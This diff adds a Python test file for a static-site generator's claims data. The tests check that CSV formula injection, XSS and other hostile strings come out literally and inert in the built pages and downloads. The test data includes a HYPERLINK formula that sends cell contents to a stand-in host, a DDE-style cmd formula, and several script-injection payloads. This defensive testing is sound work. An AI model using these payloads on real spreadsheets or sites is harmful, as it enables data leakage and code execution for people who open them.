@@ -1,0 +1,218 @@
+"""Hostile strings in data: shown literally, never markup, script or a spreadsheet formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import unicodedata
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+from conftest import Project
+from naughty import HIDDEN_FIELDS, payloads
+
+from generator.downloads import neutralise, restore
+
+CLAIM = "data/claims/zelenskyy-10000.yml"
+ACTOR = "data/actors/volodymyr-zelenskyy.yml"
+
+
+def test_csv_cells_cannot_run_as_formulas_and_json_stays_exact(site_project: Project) -> None:
+    payloads = {
+        "statement": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    site_project.edit(CLAIM, "statement: Pyongyang is preparing to send 10,000 troops.", f"statement: {json.dumps(payloads['statement'])}")
+    site_project.edit(ACTOR, "name: Volodymyr Zelenskyy", f"name: {json.dumps(payloads['name'])}")
+    result = site_project.run("generate")
+    assert result.exit_code == 0, result.output
+    docs = site_project.path("briefings/downloads")
+    rows = list(csv.DictReader(io.StringIO(docs.joinpath("claims.csv").read_text(encoding="utf-8"))))
+    row = next(r for r in rows if r["claim_id"] == "zelenskyy-10000")
+    assert row["statement"] == "'" + payloads["statement"]
+    assert row["actor_name"] == "'" + payloads["name"]
+    assert row["low"] == "10000"  # numbers are never touched
+    claim = next(c for c in json.loads(docs.joinpath("claims.json").read_text(encoding="utf-8"))["claims"] if c["id"] == "zelenskyy-10000")
+    assert claim["statement"] == payloads["statement"]
+    assert claim["actor"]["name"] == payloads["name"]
+
+
+def test_csv_neutralising_is_exactly_reversible() -> None:
+    cases = {
+        "=1+1": "'=1+1",
+        "+1": "'+1",
+        "-1": "'-1",
+        "@A1": "'@A1",
+        "\t=1": "'\t=1",
+        "\r=1": "'\r=1",
+        "  =1": "'  =1",
+        "\uff1d1+1": "'\uff1d1+1",
+        "'quoted": "''quoted",
+        "''": "'''",
+        "plain = text": "plain = text",
+        "": "",
+        "   ": "   ",
+    }
+    for text, cell in cases.items():
+        assert neutralise(text) == cell, text
+        assert restore(cell) == text, cell
+
+
+# --- the Big List of Naughty Strings and our own payloads, in every free-text field -----------------
+
+BIDI = frozenset("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
+
+
+def shown(text: str) -> str:
+    """How a data string must read on the page: control and bidi characters as U+FFFD, whitespace folded."""
+    text = "".join("\ufffd" if (unicodedata.category(c) == "Cc" and c not in "\t\n") or c in BIDI else c for c in text)
+    return " ".join(text.split())
+
+
+class _Html(HTMLParser):
+    """Every element and attribute of a page, the inline scripts, and the visible text."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self.inline_scripts: list[str] = []
+        self.text: list[str] = []
+        self._in: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+        if tag in ("script", "style", "title"):
+            self._in.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        if self._in and self._in[-1] == tag:
+            self._in.pop()
+
+    def handle_data(self, data: str) -> None:
+        if self._in and self._in[-1] == "script":
+            self.inline_scripts.append(data)
+        elif not self._in:
+            self.text.append(data)
+
+    @property
+    def visible(self) -> str:
+        return " ".join(" ".join(self.text).split())
+
+
+def parse(path: Path) -> _Html:
+    page = _Html()
+    page.feed(path.read_text(encoding="utf-8"))
+    page.close()
+    return page
+
+
+#: Every element and attribute the site may contain: Material's layout, our templates, the charts' <img>.
+ALLOWED: dict[str, set[str]] = {
+    "html": {"class", "lang"}, "head": set(), "meta": {"charset", "content", "name"}, "title": set(),
+    "link": {"href", "rel"}, "script": {"id", "src", "type"},
+    "body": {"data-md-color-accent", "data-md-color-primary", "data-md-color-scheme", "dir"},
+    "input": {"aria-label", "autocapitalize", "autocomplete", "autocorrect", "checked", "class", "data-md-color-accent", "data-md-color-media",
+              "data-md-color-primary", "data-md-color-scheme", "data-md-component", "data-md-toggle", "id", "name", "placeholder", "required", "spellcheck", "type"},
+    "label": {"class", "for", "hidden", "id", "tabindex", "title"},
+    "div": {"aria-label", "class", "data-md-component", "data-md-scrollfix", "data-md-type", "lang", "role", "tabindex"},
+    "header": {"class", "data-md-component"}, "nav": {"aria-expanded", "aria-label", "aria-labelledby", "class", "data-md-component", "data-md-level"},
+    "a": {"aria-label", "class", "data-md-component", "href", "title"}, "button": {"aria-label", "class", "data-md-component", "hidden", "tabindex", "title", "type"},
+    "form": {"class", "data-md-component", "name"}, "main": {"class", "data-md-component"}, "article": {"class"}, "footer": {"class"},
+    "ul": {"class", "data-md-component", "data-md-scrollfix"}, "ol": {"class", "role"}, "li": {"class"}, "p": {"class"},
+    "span": {"class", "id"}, "sup": {"class"}, "mark": set(), "em": set(), "strong": set(), "code": set(), "pre": set(),
+    "h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(),
+    "figure": {"class"}, "figcaption": set(), "img": {"alt", "src", "width"}, "svg": {"viewbox", "xmlns"}, "path": {"d"},
+}  # fmt: skip
+#: The inline scripts Material writes into every page; only their base path differs between pages.
+INLINE_SCRIPTS = 4
+
+
+def test_blns_is_the_published_list() -> None:
+    from naughty import blns
+
+    strings = blns()
+    assert len(strings) == 461 and "<script>alert(123)</script>" in strings
+
+
+def test_every_payload_is_shown_literally_where_it_was_placed(naughty_site: tuple[Path, Any]) -> None:
+    root, placed = naughty_site
+    site = root / "site"
+    pages: dict[str, str] = {}
+    missing = []
+    for text, places in placed.where.items():
+        for page, name in places:
+            if name in HIDDEN_FIELDS:
+                continue
+            if page not in pages:
+                pages[page] = parse(site / page).visible
+            if shown(text) not in pages[page]:
+                missing.append(f"{name} on {page}: {text!r}")
+    assert missing == []
+    assert all(placed.displayed(text) for text in payloads())  # every payload is on some page
+
+
+def test_payloads_in_fields_only_the_downloads_carry_are_exact_in_the_json(naughty_site: tuple[Path, Any]) -> None:
+    root, placed = naughty_site
+    claims = json.loads((root / "site/downloads/claims.json").read_text(encoding="utf-8"))["claims"]
+    values = set()
+    for claim in claims:
+        values |= {claim["notes"], claim["value"]["hedge"], claim["value"]["note"], claim["claimed_on"]["note"], claim["as_of"]["note"]}
+    hidden = {text for text, places in placed.where.items() if any(name in HIDDEN_FIELDS for _, name in places)}
+    assert hidden and hidden <= values
+
+
+def test_built_html_holds_only_allowed_elements_attributes_and_links(naughty_site: tuple[Path, Any]) -> None:
+    root, _ = naughty_site
+    site = root / "site"
+    found = []
+    scripts = set()
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > 50
+    for path in pages:
+        page = parse(path)
+        rel = path.relative_to(site).as_posix()
+        for tag, attrs in page.elements:
+            if tag not in ALLOWED:
+                found.append(f"{rel}: <{tag}>")
+                continue
+            for name, value in attrs.items():
+                if name not in ALLOWED[tag]:
+                    found.append(f"{rel}: <{tag} {name}>")
+                elif name in ("href", "src") and value:
+                    scheme = urlsplit(value).scheme
+                    # Relative links, and the archived article's own http(s) address, percent-encoded.
+                    if scheme and not (scheme == "https" and value.startswith("https://example.org/") and not set(value) & set("<>\"' ")):
+                        found.append(f"{rel}: <{tag} {name}={value!r}>")
+        for script in page.inline_scripts:
+            assert "alert" not in script and "prompt" not in script
+            scripts.add(re.sub(r'(?<=")[./]+', "", script))  # the relative paths to the site's root differ by page
+    assert found == []
+    assert len(scripts) == INLINE_SCRIPTS, "an inline script came from the data"
+
+
+def test_source_address_is_percent_encoded(naughty_site: tuple[Path, Any]) -> None:
+    root, _ = naughty_site
+    hrefs = [
+        attrs["href"] for tag, attrs in parse(root / "site/sources/naughty-source.html").elements if tag == "a" and (attrs.get("href") or "").startswith("http")
+    ]
+    assert hrefs and all("%3C" in (h or "") for h in hrefs)  # the payload's "<", encoded
+
+
+def test_hostile_values_in_constrained_fields_fail_with_clear_errors(project: Project) -> None:
+    project.edit(ACTOR, "name: Volodymyr Zelenskyy", 'name: ""')
+    project.edit(CLAIM, "tags: [troops]", 'tags: ["<script>alert(1)</script>"]')
+    project.edit("data/sources/2024-10-18-sample.yml", "url: null", 'url: "data:text/html,<script>alert(1)</script>"')
+    project.edit("data/sources/2024-10-18-sample.yml", "language: en", 'language: "en\\"><script>"')
+    result = project.run("validate")
+    assert result.exit_code == 1
+    assert result.stderr.splitlines() == [
+        f"{ACTOR}:3:7: name: must not be empty. Hint: The name readers know, in its standard spelling.",
+        f'{CLAIM}:19:8: tags[0]: the text "<script>alert(1)</script>" is not a valid id (lowercase letters, digits and single hyphens, such as olaf-scholz). Hint: Lowercase slug: letters a-z, digits and single hyphens. It names the file and the page.',
+        'data/sources/2024-10-18-sample.yml:6:6: url: the text "data:text/html,<script>alert(1)</script>" is not an http or https address. Hint: The address the text was archived from, http(s) only, or null when unknown. Never guess one.',
+        'data/sources/2024-10-18-sample.yml:11:11: language: the text "en"><script>" is not in the expected form (^[a-z]{2,3}(-[A-Za-z0-9]+)*$). Hint: BCP 47 language tag of the text, such as en.',
+        "Found 4 errors in 3 files.",
+    ]
